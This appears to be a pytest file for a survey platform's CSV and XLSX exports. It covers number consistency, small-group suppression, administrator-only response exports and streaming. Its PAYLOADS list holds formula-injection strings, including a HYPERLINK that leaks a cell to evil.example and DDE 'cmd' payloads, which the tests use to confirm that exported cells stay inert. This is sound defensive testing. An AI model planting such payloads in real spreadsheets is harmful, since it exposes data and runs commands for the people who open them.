"""Exports: the same published numbers as the dashboard and the API, no group below the threshold,
no cell that can run as a formula, the response-level file for administrators only, streamed."""

from __future__ import annotations

import csv
import io
import re
import tracemalloc
import zipfile

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import select

import demo
from survey.exports import responses as response_export
from survey.extensions import db
from survey.models import AuditEvent, PendingSubmission, Response, Role, Survey, SurveyStatus
from survey.spreadsheets import Sheet, csv_chunks, text, write_xlsx

from .factories import PROBATION, TINY, demo_survey, insert_responses, make_survey, make_user, random_records
from .helpers import get_page
from .journey import csrf_token
from .staff import sign_in

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
    "=1+1",
]
# (question, breakdown, filter) as the dashboard's ?by=&filter= and the API's ?by=&<dim>=<code>
QUERIES = [
    ("E3", "disabled", {}),
    ("C2", None, {"A5": "cymru_wales"}),
    ("A7", None, {}),
    ("C1", None, {"A2": "acute_hospital"}),
    ("C2", "A2", {"A5": "cymru_wales"}),  # sectors in Wales: some too small to show
]


@pytest.fixture
def filled(app):
    """A closed ai-at-work survey with 3,000 synthetic responses, k = 10."""
    return demo_survey(app, "filled", 3000, 7)


@pytest.fixture
def closed_tiny(app):
    """A closed survey of the tiny questionnaire with 400 random responses, k = 10: every question
    type, protected and non-protected breakdowns, small enough that the whole survey exports fast."""
    survey = make_survey(app, status=SurveyStatus.CLOSED, threshold=10)
    records = random_records(TINY, 400, 5)
    insert_responses(app, survey, [(answers, language) for answers, language, _ in records], batch=1)
    return survey


def _csv(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.status_code
    assert response.content_type.startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True).removeprefix("\ufeff"), newline="")))


def _xlsx(response) -> openpyxl.Workbook:
    assert response.status_code == 200, response.status_code
    return openpyxl.load_workbook(io.BytesIO(response.data))


def _sheet_dicts(sheet) -> list[dict]:
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def _filter_arg(filters: dict[str, str]) -> str:
    return "".join(f"&filter={dim}:{code}" for dim, code in filters.items())


def _number(value: str) -> float | None:
    try:
        return float(value)
    except ValueError:
        return None


def _plain(row: dict) -> dict:
    """A row with numbers as floats and empty cells as "", as CSV and XLSX both read back."""
    return {k: "" if v in (None, "") else float(v) if _number(str(v)) is not None else v for k, v in row.items()}


# --- the same numbers as the dashboard and the API ----------------------------------------------


def _api_cells(body: dict) -> dict[tuple, tuple]:
    """(question, group, option) -> (count or None, percent or None) from the API's JSON."""
    out = {}
    for table in body.get("items") or [body]:
        question = table.get("question", body["question"])
        for cell in table["cells"]:
            out[(question, cell["group"] or "", cell["option"])] = (cell["count"], cell["percent"])
        for scale in table["scale"]:
            for side in ("positive", "negative"):
                out[(question, scale["group"] or "", side)] = (scale[f"{side}_count"], scale[f"{side}_percent"])
    return out


def _export_cells(rows: list[dict]) -> dict[tuple, tuple]:
    out = {}
    for row in rows:
        if row["measure"] in ("answer", "positive", "negative"):
            option = row["answer_code"] if row["measure"] == "answer" else row["measure"]
            out[(row["question"], row["group_code"], option)] = (row["count"], row["percent"])
    return out


def _page_counts(html: str) -> tuple[list[str], list[int]]:
    """Every answer's count ("not shown" or a number) and every group's size, group by group, from
    the dashboard's cross-tables (answers as rows, groups as columns; a grid's statements summary,
    which has no counts, is skipped)."""
    counts, bases = [], []
    for table in re.findall(r'<table role="table" class="table cross.*?</table>', html, re.S):
        rows = re.findall(
            r'<tr role="row"( class="[^"]*")?><th scope="row" role="rowheader">.*?</th>(.*?)</tr>', table, re.S
        )
        answers = [re.findall(r"<td[^>]*>(.*?)</td>", cells, re.S) for kind, cells in rows if not kind]
        sizes = [re.findall(r'<span class="val n">([\d,]+)</span>', cells) for kind, cells in rows if "n-row" in kind]
        if not sizes:
            continue
        bases += [int(n.replace(",", "")) for n in sizes[0]]
        for column in range(len(sizes[0])):
            for cells in answers:
                hidden = "Not shown (small group)" in cells[column]
                counts.append(
                    "not shown"
                    if hidden
                    else re.search(r'class="count">\(([\d,]+)\)', cells[column]).group(1).replace(",", "")
                )
    return counts, bases


def test_question_exports_hold_the_dashboards_and_the_apis_numbers(app, admin, filled):
    hidden = 0
    for question, by, filters in QUERIES:
        hidden += _compare(admin, filled, question, by, filters)
    assert hidden > 0  # the queries were chosen so that some group is too small to show


def _compare(admin, filled, question: str, by: str | None, filters: dict[str, str]) -> int:
    """Check one query's CSV against the API, the dashboard and the XLSX; return how many were hidden."""
    base = f"/organise/surveys/{filled.id}"
    query = f"?by={by or ''}{_filter_arg(filters)}"
    rows = _csv(admin.get(f"{base}/exports/q/{question}.csv{query}"))
    api = admin.get(
        f"/api/v1/surveys/filled/results/{question}", query_string={**({"by": by} if by else {}), **filters}
    )
    assert api.status_code == 200, api.get_json()
    body = api.get_json()
    left_out = {
        (table.get("question", body["question"]), g["code"] or "")
        for table in body.get("items") or [body]
        for g in table["groups"]
        if g["suppressed"]
    }
    expected = {key: value for key, value in _api_cells(body).items() if key[:2] not in left_out}
    exported = _export_cells(rows)
    assert set(exported) == set(expected) and expected, question
    _check_threshold(rows, ("group_n", "base"), 10)
    hidden = sum(1 for r in rows if r["group_n"] == "not shown")  # a group too small to show: one row
    assert hidden == len(left_out)
    for key, (count, percent) in expected.items():
        if count is None and percent is None:  # an answer that says who people are, too small to show
            assert exported[key] == ("not shown", ""), key
            hidden += 1
        else:
            assert exported[key] == (str(count), str(percent)), key
    # the dashboard: the same counts in the same order, for every group it shows, and the same bases
    page = admin.get(f"{base}/results/q/{question}{query}")
    counts, bases = _page_counts(page.text)
    shown = [r for r in rows if r["measure"] == "answer" and _number(r["group_n"]) is not None]
    assert counts == [r["count"] for r in shown] and counts
    group_bases = list(dict.fromkeys((r["question"], r["group_code"], r["group_n"]) for r in shown))
    assert bases == [int(n) for _, _, n in group_bases]
    # the workbook holds the very same rows, numbers as numbers
    book = _xlsx(admin.get(f"{base}/exports/q/{question}.xlsx{query}"))
    assert [_plain(r) for r in _sheet_dicts(book["Results"])] == [_plain(r) for r in rows]
    assert question in (admin.get(f"{base}/exports/q/{question}.csv{query}").headers["Content-Disposition"])
    return hidden


def _check_threshold(rows: list[dict], columns: tuple[str, ...], k: int) -> tuple[int, int]:
    """Assert every group size (base) of these columns is at least k and every other value reads
    "not shown"; and that no count anywhere is 1 or 2 (never published as themselves)."""
    numbers = hidden = 0
    for row in rows:
        if "count" in row and _number(str(row["count"])) is not None:
            assert float(row["count"]) not in (1.0, 2.0), row
        for column in columns:
            value = row[column]
            if value in ("", None) or (column == "base" and row.get("measure") not in (None, "answer")):
                continue  # a scale's summary base is a sum of published answers on the scale, not a group
            if isinstance(value, int | float) or _number(value) is not None:
                assert float(value) >= k, (row, column)
                numbers += 1
            else:
                assert value == "not shown", (row, column)
                hidden += 1
    return numbers, hidden


def test_no_exported_group_is_smaller_than_k(app, admin, closed_tiny):
    base = f"/organise/surveys/{closed_tiny.id}/exports"
    results = _csv(admin.get(f"{base}/results.csv"))
    numbers, hidden = _check_threshold(results, ("group_n", "base"), 10)
    assert numbers > 100
    assert {r["breakdown"] for r in results} == {"", "group", "sector", "nation", "language"}  # none protected
    assert {r["measure"] for r in results} >= {"answer", "positive", "negative", "median"}
    overview = _csv(admin.get(f"{base}/responses-by-group.csv"))
    assert abs(int(overview[0]["responses"]) - 400) <= 3  # published: adjusted by 3 at most
    assert _check_threshold(overview, ("responses",), 10)[0] > 3
    streamed = admin.get(f"{base}/survey.xlsx", buffered=False)
    assert streamed.is_streamed and next(iter(streamed.response)).startswith(b"PK")  # a ZIP, a chunk at a time
    streamed.close()
    book = _xlsx(admin.get(f"{base}/survey.xlsx"))
    assert book.sheetnames == ["About", "Responses", "Results", "Equality flags", "Comments", "Themes"]
    sheet = _sheet_dicts(book["Results"])
    assert [_plain(r) for r in sheet] == [_plain(r) for r in results]
    assert _check_threshold(sheet, ("group_n", "base"), 10) == (numbers, hidden)
    assert all(isinstance(r["count"], int) for r in sheet if r["count"] and not isinstance(r["count"], str))
    # each table is the one the engine gives for that query
    one = _csv(admin.get(f"{base}/q/confidence.csv?by=sector"))
    assert one == [r for r in results if r["question"] == "confidence" and r["breakdown"] == "sector"]


def test_equality_flags_export_as_the_api_gives_them(app, admin, filled):
    flags = _csv(admin.get(f"/organise/surveys/{filled.id}/exports/equality-flags.csv"))
    api = admin.get("/api/v1/surveys/filled/equality").get_json()["flags"]
    assert flags and [(f["question"], f["group"], f["gap"], f["base"]) for f in api] == [
        (f["question"], f["group_code"], float(f["gap_points"]), int(f["base"])) for f in flags
    ]
    assert _check_threshold(flags, ("base", "everyone_else_base"), 10)[0] == 2 * len(flags)


def test_a_survey_with_too_few_responses_exports_no_number(app, admin):
    survey = make_survey(app, threshold=10)
    insert_responses(app, survey, [(answers, language) for answers, language, _ in random_records(TINY, 9, 3)], 1)
    base = f"/organise/surveys/{survey.id}/exports"
    overview = _csv(admin.get(f"{base}/responses-by-group.csv"))
    assert overview == [
        {
            "breakdown": "",
            "breakdown_label": "Everyone",
            "group_code": "",
            "group": "Everyone",
            "responses": "not shown",
        }
    ]
    rows = _csv(admin.get(f"{base}/q/confidence.csv"))
    assert rows and all(r["count"] == "" and r["measure"] == "not shown" and "10" in r["note"] for r in rows)
    assert _check_threshold(_csv(admin.get(f"{base}/results.csv")), ("group_n", "base"), 10)[0] == 0
    comments = _csv(admin.get(f"{base}/comments.csv"))
    assert comments and all(r["comment"] == "" for r in comments)


# --- formula injection ---------------------------------------------------------------------------


def _add_comments(app, survey, texts: list[str], answers: dict | None = None, key: str = "K1") -> None:
    """Store released responses that answer an open comment question (ai-at-work's K1) with these texts."""
    with app.app_context():
        db.session.add_all(
            Response(
                survey_id=survey.id,
                questionnaire_version_id=survey.questionnaire_version_id,
                language="en",
                answers={**(answers or {"A1": "health"}), key: text},
                batch=99,
            )
            for text in texts
        )
        db.session.commit()


def _withdrawing(survey, answers: dict, batch: int) -> Response:
    """Return a released response its member is withdrawing (the export leaves it out)."""
    return Response(
        survey_id=survey.id,
        questionnaire_version_id=survey.questionnaire_version_id,
        language="en",
        answers=answers,
        batch=batch,
        withdrawing=True,
    )


def _inert(value) -> bool:
    """A cell is inert when it is a number, or text not starting like a formula."""
    if value is None or isinstance(value, int | float):
        return True
    return not value.startswith(FORMULA_STARTS) or _number(value) is not None


def test_formula_payloads_in_comments_come_out_inert(app, admin, closed_tiny):
    _add_comments(app, closed_tiny, PAYLOADS * 3, {"group": "health", "sector": "acute"}, key="team")
    base = f"/organise/surveys/{closed_tiny.id}/exports"
    for url in (f"{base}/q/team.csv", f"{base}/comments.csv"):
        rows = _csv(admin.get(url))
        written = [r["comment"] for r in rows if r["question"] == "team" and r["comment"]]
        assert all(_inert(c) for r in rows for c in r.values()), url
        assert {"'" + p for p in PAYLOADS} <= set(written), url
    for url in (f"{base}/q/team.xlsx", f"{base}/survey.xlsx"):
        book = _xlsx(admin.get(url))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        assert cells and all(cell.data_type != "f" and _inert(cell.value) for cell in cells), url
        written = {c.value for c in cells if c.data_type == "s"}
        assert {"'" + p.replace("\r", "\n") for p in PAYLOADS} <= written, url  # XML reads CR as LF


CELLS = st.none() | st.integers() | st.floats(allow_nan=False) | st.text(alphabet=st.characters(codec="utf-8"))


@settings(max_examples=60, deadline=None)
@given(
    rows=st.lists(st.lists(CELLS, min_size=3, max_size=3), max_size=40),
    chunk=st.integers(1, 12),
    prepared=st.booleans(),
)
def test_csv_chunks_write_the_same_file_whatever_the_chunk(rows, chunk, prepared):
    header = ("a", "=b", "c")
    chunks = list(csv_chunks(header, iter(rows), chunk, prepared=prepared))
    # The same file as one csv.writer writing every row, each cell made inert unless prepared.
    expected = io.StringIO()
    writer = csv.writer(expected)
    writer.writerow(["a", "'=b", "c"])
    writer.writerows(row if prepared else [text(v) if isinstance(v, str) else v for v in row] for row in rows)
    assert "".join(chunks) == "\ufeff" + expected.getvalue()
    assert len(chunks) == 1 + -(-len(rows) // chunk)  # the header alone first, then `chunk` rows each
    if not prepared:
        written = list(csv.reader(io.StringIO("".join(chunks[1:])), strict=True))
        assert all(_inert(value) for row in written for value in row)


def test_text_is_made_inert_and_numbers_stay_numbers():
    rows = [("=1+1", -1.5, -3, "-3 apples", "\x01=1+1", "ok", None)]
    header = ("a", "b", "c", "d", "e", "f", "g")
    text = "".join(csv_chunks(header, rows)).removeprefix("\ufeff")
    assert list(csv.reader(io.StringIO(text, newline="")))[1] == [
        "'=1+1",
        "-1.5",
        "-3",
        "'-3 apples",
        "'=1+1",
        "ok",
        "",
    ]
    buffer = io.BytesIO()
    write_xlsx([Sheet("Sheet", header, rows)], buffer)
    cells = next(openpyxl.load_workbook(buffer)["Sheet"].iter_rows(min_row=2))
    assert [c.value for c in cells] == ["'=1+1", -1.5, -3, "'-3 apples", "'=1+1", "ok", None]
    assert [c.data_type for c in cells[:4]] == ["s", "n", "n", "s"]


# --- the response-level export --------------------------------------------------------------------


@pytest.mark.parametrize("role", [Role.ORGANISER, Role.VIEWER])
def test_the_response_level_export_is_refused_to_organisers_and_viewers(app, client, role):
    survey = make_survey(app, "probation", app.extensions["questionnaires"]["ai-at-work"], audience=PROBATION)
    _add_comments(app, survey, ["fine"] * 12)
    make_user(app, "pat@example.org", role, [PROBATION])
    sign_in(client, app, "pat@example.org")
    index = get_page(client, f"/organise/surveys/{survey.id}/exports/")
    assert '/exports/responses"' not in index
    assert client.get(f"/organise/surveys/{survey.id}/exports/responses").status_code == 403
    token = csrf_token(client.get("/organise/").text)
    refused = client.post(f"/organise/surveys/{survey.id}/exports/responses", data={"csrf_token": token})
    assert refused.status_code == 403 and "fine" not in refused.text
    assert client.get(f"/organise/surveys/{survey.id}/exports/q/C1.csv").status_code == 200  # aggregates: yes
    with app.app_context():
        assert db.session.scalar(select(AuditEvent).where(AuditEvent.action == "exported responses")) is None


def test_administrators_export_released_responses_after_a_warning_audited(app, admin):
    survey = make_survey(app, "comments", app.extensions["questionnaires"]["ai-at-work"], threshold=10)
    texts = [f"comment {i:02d}" for i in range(30)] + PAYLOADS
    _add_comments(app, survey, texts)
    with app.app_context():
        db.session.add(
            PendingSubmission(
                survey_id=survey.id,
                questionnaire_version_id=survey.questionnaire_version_id,
                language="cy",
                answers={"A1": "health", "K1": "not released yet"},
            )
        )
        db.session.add(_withdrawing(survey, {"K1": "being withdrawn"}, batch=99))
        db.session.commit()
        stored = db.session.execute(
            select(Response.id, Response.answers).where(Response.survey_id == survey.id, ~Response.withdrawing)
        ).all()
    url = f"/organise/surveys/{survey.id}/exports/responses"
    page = get_page(admin, url)
    assert "special category data" in page and "must not leave the union" in page
    assert f"{len(texts)} rows" in page
    assert admin.post(url, data={}).status_code == 400  # no CSRF token, no file
    with app.app_context():
        assert db.session.scalar(select(AuditEvent).where(AuditEvent.action == "exported responses")) is None
    rows = _csv(admin.post(url, data={"csrf_token": csrf_token(page)}))
    assert list(rows[0])[:4] == ["language", "questionnaire_version", "A1", "A2"]
    assert not {"id", "batch", "created_at", "submitted_at"} & set(rows[0])
    assert [r["K1"] for r in rows] == [
        ("'" + a["K1"] if a["K1"].startswith(FORMULA_STARTS) else a["K1"])
        for _, a in sorted(stored, key=lambda s: s[0].hex)
    ]  # in the order of the random ids, never as stored; formulas made inert
    assert [r["K1"] for r in rows] != [("'" + t if t.startswith(FORMULA_STARTS) else t) for t in texts]
    assert all(_inert(value) for row in rows for value in row.values())
    assert {r["language"] for r in rows} == {"en"} and rows[0]["questionnaire_version"] == "ai-at-work v1"
    with app.app_context():
        event = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "exported responses"))
        assert event.actor == "ada@example.org" and event.survey_id == survey.id
        assert event.detail == {"rows": len(texts)}


def test_the_response_rows_are_the_released_answers_each_cell_made_inert(app, closed_tiny):
    """The export's own rows (read from the driver, a column plan worked out once) against rows
    made the plain way: every released response through the ORM, in id order, lists joined and
    every text cell made inert by csv_chunks itself. Random answers to every question type, formula
    payloads, a later batch and a response being withdrawn (both left out)."""
    _add_comments(app, closed_tiny, PAYLOADS * 2, {"group": "health"}, key="team")
    insert_responses(
        app, closed_tiny, [(answers, language) for answers, language, _ in random_records(TINY, 30, 6)], 100
    )
    with app.app_context():
        survey = db.session.get(Survey, closed_tiny.id)
        db.session.add(_withdrawing(survey, {"team": "being withdrawn"}, batch=1))
        db.session.commit()
        keys = response_export.answer_columns(survey)
        header = (*response_export.FIXED_COLUMNS, *keys)
        stored = db.session.scalars(
            select(Response).where(Response.survey_id == survey.id, ~Response.withdrawing, Response.batch <= 99)
        ).all()
        version = f"{survey.questionnaire_version.slug} v{survey.questionnaire_version.version}"
        expected = [
            [r.language, version, *(";".join(v) if isinstance(v, list) else v for v in map(r.answers.get, keys))]
            for r in sorted(stored, key=lambda r: r.id.hex)
        ]
        assert any(isinstance(v, list) for r in stored for v in r.answers.values())  # multiple choice met
        rows = list(response_export.response_rows(survey, keys, 99))
        assert len(rows) == 400 + 2 * len(PAYLOADS)
        assert "".join(csv_chunks(header, rows, prepared=True)) == "".join(csv_chunks(header, expected))


# --- streamed, in bounded memory -------------------------------------------------------------------


def test_exports_are_streamed(app, admin, filled):
    url = f"/organise/surveys/{filled.id}/exports/responses"
    token = csrf_token(admin.get(url).text)
    response = admin.post(url, data={"csrf_token": token}, buffered=False)
    assert response.is_streamed and response.status_code == 200
    assert response.headers["Cache-Control"] == "no-store" and "attachment" in response.headers["Content-Disposition"]
    chunks = iter(response.response)
    header = next(chunks)
    first = next(chunks)
    assert header.startswith("\ufefflanguage,".encode()) and first.count(b"\n") >= 1000
    rest = b"".join(chunks)
    assert first.count(b"\n") + rest.count(b"\n") >= 3000  # rows arrived before the last was read
    response.close()


def _traced_export(admin, survey) -> tuple[int, int]:
    """Download a survey's response-level CSV; return its size and the peak Python memory traced."""
    url = f"/organise/surveys/{survey.id}/exports/responses"
    response = admin.post(url, data={"csrf_token": csrf_token(admin.get(url).text)}, buffered=False)
    tracemalloc.start()
    try:
        size = sum(len(chunk) for chunk in response.response)
        return size, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
        response.close()


def test_the_response_level_export_streams_in_bounded_memory(app, admin, monkeypatch):
    """Five times the rows, about the same peak memory: rows are read a partition at a time and
    never kept (with partitions of 500, so that a moderate dataset spans many of them)."""
    monkeypatch.setattr(response_export, "READ_CHUNK", 500)
    small = make_survey(app, "small", app.extensions["questionnaires"]["ai-at-work"], threshold=10)
    large = make_survey(app, "large", app.extensions["questionnaires"]["ai-at-work"], threshold=10)
    with app.app_context():
        demo.add_responses(db.session.get(Survey, small.id), 3_000, 11)
        demo.add_responses(db.session.get(Survey, large.id), 15_000, 12)
    small_size, small_peak = _traced_export(admin, small)
    large_size, large_peak = _traced_export(admin, large)
    assert large_size > 4 * small_size
    assert large_peak < 1.25 * small_peak + 512 * 1024, (small_peak, large_peak)  # kept rows: 5 times


def test_the_dashboard_links_to_the_exports(app, admin, filled):
    overview = get_page(admin, f"/organise/surveys/{filled.id}/results/")
    assert f"/organise/surveys/{filled.id}/exports/" in overview
    question = get_page(admin, f"/organise/surveys/{filled.id}/results/q/E3?by=disabled&filter=A5:cymru_wales")
    assert re.search(r"/exports/q/E3\.csv\?by=disabled&amp;filter=A5(:|%3A)cymru_wales", question)
    assert re.search(r"/exports/q/E3\.xlsx\?by=disabled&amp;filter=A5(:|%3A)cymru_wales", question)
    exports = get_page(admin, f"/organise/surveys/{filled.id}/exports/")
    assert '/exports/responses"' in exports
    with app.app_context():
        assert db.session.scalar(select(AuditEvent).where(AuditEvent.action == "exported responses")) is None


# --- the first bytes at once (issue 17 item 7) -----------------------------------------------------

DOWNLOADS = [
    "survey.xlsx",
    "results.csv",
    "responses-by-group.csv",
    "equality-flags.csv",
    "comments.csv",
    "q/monitoring.csv?by=group",
    "q/monitoring.xlsx?by=group",
    "q/trust.xlsx",
    "q/ai_detail.csv",
    "q/ai_detail.xlsx",
]
ENGINE = ("overview", "question_table", "comments", "equality_flags", "query_options", "dimensions")


@pytest.mark.parametrize("download", DOWNLOADS)
def test_every_download_sends_its_first_bytes_before_anything_is_counted(
    app, admin, closed_tiny, monkeypatch, download
):
    """The first chunk leaves before the results engine is asked for anything; the rest follows,
    and the whole is a file (a workbook that opens; a CSV with its byte-order mark)."""
    from survey import results

    asked: list[str] = []

    def spy(name: str):
        real = getattr(results, name)
        return lambda *args, **kwargs: asked.append(name) or real(*args, **kwargs)

    for name in ENGINE:
        monkeypatch.setattr(results, name, spy(name))
    response = admin.get(f"/organise/surveys/{closed_tiny.id}/exports/{download}", buffered=False)
    assert response.status_code == 200 and response.is_streamed
    chunks = iter(response.response)
    first = next(chunks)
    assert first and asked == [], asked
    whole = first + b"".join(chunks)
    response.close()
    assert asked, "the rows came from the engine"
    if ".xlsx" in download:
        assert first.startswith(b"PK\x03\x04")  # a ZIP's first part
        book = openpyxl.load_workbook(io.BytesIO(whole))
        assert book["About"].max_row >= 2 and len(book.sheetnames) >= 2
    else:
        assert first == "\ufeff".encode() and whole.decode().count("\n") >= 1  # a header, at least


def test_the_streamed_workbook_holds_the_csv_files_rows(app, admin, closed_tiny):
    """The whole-survey workbook, made as it is sent, is a sound ZIP whose sheets hold exactly the
    rows of the four CSV files; headers bold, the first row frozen, every text cell a string."""
    base = f"/organise/surveys/{closed_tiny.id}/exports"
    data = admin.get(f"{base}/survey.xlsx").data
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        assert {"[Content_Types].xml", "xl/workbook.xml", "xl/styles.xml"} <= set(archive.namelist())
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["About", "Responses", "Results", "Equality flags", "Comments", "Themes"]
    for sheet, part in [
        ("Responses", "responses-by-group"),
        ("Results", "results"),
        ("Equality flags", "equality-flags"),
        ("Comments", "comments"),
        ("Themes", "themes"),
    ]:
        worksheet = book[sheet]
        assert worksheet.freeze_panes == "A2" and worksheet["A1"].font.b
        from_csv = [_plain(row) for row in _csv(admin.get(f"{base}/{part}.csv"))]
        assert [_plain(row) for row in _sheet_dicts(worksheet)] == from_csv, sheet
        assert all(
            cell.data_type == "s" for row in worksheet.iter_rows() for cell in row if isinstance(cell.value, str)
        )


def test_no_workbook_is_written_to_disk(app, admin, closed_tiny, monkeypatch):
    """The workbook goes from memory to the wire: no temporary file holds members' comments."""
    import tempfile

    def refuse(*args, **kwargs):
        raise AssertionError("a temporary file was made")

    for name in ("TemporaryFile", "NamedTemporaryFile", "SpooledTemporaryFile", "mkstemp"):
        monkeypatch.setattr(tempfile, name, refuse)
    response = admin.get(f"/organise/surveys/{closed_tiny.id}/exports/survey.xlsx")
    assert response.status_code == 200 and openpyxl.load_workbook(io.BytesIO(response.data)).sheetnames
